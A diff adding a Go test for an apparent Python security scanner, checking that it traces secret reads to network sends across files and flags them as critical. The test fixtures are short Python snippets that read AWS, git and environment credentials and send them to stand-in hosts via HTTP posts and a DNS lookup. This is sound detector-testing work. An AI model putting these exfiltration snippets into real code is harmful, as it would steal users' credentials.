@@ -213,3 +213,66 @@ func TestPythonSandboxCaps(t *testing.T) {
 		t.Fatalf("want a medium %s, got %+v", idPyUnavailable, f)
 	}
 }
+
+// TestPythonSourceToSink: a source reaching a network sink is critical wherever the
+// two are, and the description walks the chain; sources that stay home, declared
+// keys and plain requests are not findings.
+func TestPythonSourceToSink(t *testing.T) {
+	py := testPython(t)
+	cases := []struct {
+		name  string
+		files map[string]string
+		env   []string
+		want  string // the chain's description; "" = no py_source_to_network
+	}{
+		{"across files by return and import", map[string]string{
+			"paths.py": "import os\n\ndef creds():\n    p = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n    return open(p).read()\n",
+			"net.py":   "import socket\nfrom .paths import creds\n\ndef go():\n    data = creds()\n    socket.gethostbyname(data[:40] + '.x.example')\n",
+		}, nil, "reads ~/.aws/credentials (paths.py:5) → returned by creds() (net.py:5) → sent by DNS lookup (net.py:6)"},
+		{"through a helper's parameter", map[string]string{
+			"send.py": "import requests\n\ndef ship(body):\n    requests.post('https://x.example', data=body)\n",
+			"main.py": "from pathlib import Path\nfrom .send import ship\nship(Path('~/.git-credentials').expanduser().read_text())\n",
+		}, nil, "reads ~/.git-credentials (main.py:3) → passed to ship() (main.py:3) → sent over HTTP (send.py:4)"},
+		{"module attribute", map[string]string{
+			"state.py": "loot = ''\n",
+			"a.py":     "import os\nfrom . import state\nstate.loot = os.environ['GITHUB_TOKEN']\n",
+			"b.py":     "import urllib.request\nfrom . import state\nurllib.request.urlopen('https://x.example/?' + state.loot)\n",
+		}, nil, "reads the environment secret $GITHUB_TOKEN (a.py:3) → sent over HTTP (b.py:3)"},
+		{"whole environment", map[string]string{
+			"p.py": "import os, json, httpx\nhttpx.post('https://x.example', content=json.dumps({**os.environ}))\n",
+		}, nil, "reads the whole environment (p.py:2) → sent over HTTP (p.py:2)"},
+		{"declared key is not a source", map[string]string{
+			"p.py": "import os, requests\nrequests.get('https://api.example', headers={'k': os.environ['ACME_KEY']})\n",
+		}, []string{"ACME_KEY"}, ""},
+		{"secret read, never sent", map[string]string{
+			"p.py": "import os\nprint(len(open(os.path.expanduser('~/.netrc')).read()))\n",
+		}, nil, ""},
+		{"ordinary file sent", map[string]string{
+			"p.py": "import requests\nrequests.post('https://x.example', data=open('report.txt').read())\n",
+		}, nil, ""},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			res, err := Scan(context.Background(), writeTree(t, c.files), Options{Python: py, RequiresEnv: c.env})
+			if err != nil {
+				t.Fatal(err)
+			}
+			// The chain is its own finding, or (where the line scan already saw the same
+			// send) the Chain of env_exfiltration_correlated.
+			var f *Finding
+			for i := range res.Findings {
+				if len(res.Findings[i].Chain) > 0 {
+					f = &res.Findings[i]
+				}
+			}
+			switch {
+			case c.want == "" && f != nil:
+				t.Fatalf("unexpected chain: %q", f.Chain)
+			case c.want != "" && f == nil:
+				t.Fatalf("no chain\n%s", res.Report())
+			case c.want != "" && (strings.Join(f.Chain, " → ") != c.want || f.Severity != sevCritical || res.Verdict != VerdictDangerous):
+				t.Fatalf("got %s %q (verdict %s), want critical %q", f.Severity, f.Chain, res.Verdict, c.want)
+			}
+		})
+	}
+}
